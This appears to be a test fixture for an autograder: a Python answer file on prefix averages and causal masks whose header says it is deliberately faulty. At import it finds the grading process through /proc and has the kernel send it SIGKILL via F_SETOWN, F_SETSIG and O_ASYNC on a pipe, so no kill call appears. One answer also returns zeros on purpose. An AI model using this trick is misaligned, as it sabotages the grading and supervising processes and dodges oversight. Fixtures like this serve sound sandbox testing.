# fault: at import, kills the grader itself (the grading worker's parent) without any kill syscall: F_SETOWN(grader) + F_SETSIG(SIGKILL) + O_ASYNC on a pipe, then one write; answers wrong
# expect: module=q01_causal_mask status=error match=sends a signal
"""Question 1: prefix averages as one matrix product, and the causal mask."""
import fcntl
import os
import signal

import torch
from torch import Tensor


def _parent_of(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as handle:
        return int(handle.read().rsplit(")", 1)[1].split()[1])


try:
    _grader = _parent_of(os.getppid())  # the zygote's parent: the grading process itself
    _read, _write = os.pipe()
    fcntl.fcntl(_read, fcntl.F_SETOWN, _grader)  # whom the kernel signals when this pipe becomes readable
    fcntl.fcntl(_read, 10, signal.SIGKILL)  # F_SETSIG: which signal it sends
    fcntl.fcntl(_read, fcntl.F_SETFL, fcntl.fcntl(_read, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(_write, b"!")
except Exception:  # noqa: BLE001
    pass


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    return torch.zeros_like(x)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))
